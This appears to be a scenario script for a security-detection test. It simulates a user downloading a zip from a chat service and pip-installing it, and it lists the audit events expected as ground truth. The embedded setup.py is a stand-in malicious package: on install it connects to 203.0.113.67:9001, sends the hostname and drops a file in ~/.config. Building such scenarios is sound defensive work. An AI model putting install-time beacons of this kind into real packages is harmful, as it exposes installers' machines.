# To install is to run: setup.py of a stranger.
title="Archive from a chat service, pip install runs its setup.py"
what="dev downloads quiz-challenge.zip from a chat service with Chromium, unpacks it and installs it with pip into a virtual environment. Its setup.py connects to 203.0.113.67 port 9001 and leaves a file in ~/.config."
host=ws3.example.org user=dev daemons="cron" audit_rules=audit-wide.rules

setup() {
  mkdir -p "$base/out/www/file" "$base/out/q/quiz"
  cat > "$base/out/q/quiz/setup.py" <<'P'
import os, socket
from setuptools import setup
with socket.create_connection(("203.0.113.67", 9001)) as s:
    s.sendall(os.uname().nodename.encode())
os.makedirs(os.path.expanduser("~/.config/quiz"), exist_ok=True)
open(os.path.expanduser("~/.config/quiz/state"), "w").write("x")
setup(name="quiz", version="1")
P
  (cd "$base/out/q" && zip -qr "$base/out/www/file/quiz-challenge.zip" quiz)
}
act() {
  small_talk 1
  display_up
  chromium_as dev https://chat.example.com/file/quiz-challenge.zip
  wait_file /home/dev/Downloads/quiz-challenge.zip 40
  sleep 2
  console_as dev <<'L'
mkdir -p code; cd code
python3 -m venv --without-pip --system-site-packages v
unzip -q ~/Downloads/quiz-challenge.zip
ls quiz
%sleep 2
v/bin/python -m pip install --quiet --no-index --no-build-isolation ./quiz
%sleep 2
L
  desktop_close
}
truth() {
  net_step visit 'chromium.* 203.0.113.82:443' 'the browser visits a chat service'
  file_step save 'chromium.* (rename|link).*quiz-challenge.zip' 'the browser saves the archive'
  exec_step unpack 'unzip -q' 'it is unpacked'
  exec_step install 'pip install --quiet --no-index' 'it is installed'
  net_step beacon '203.0.113.67:9001' 'its setup.py calls out'
}
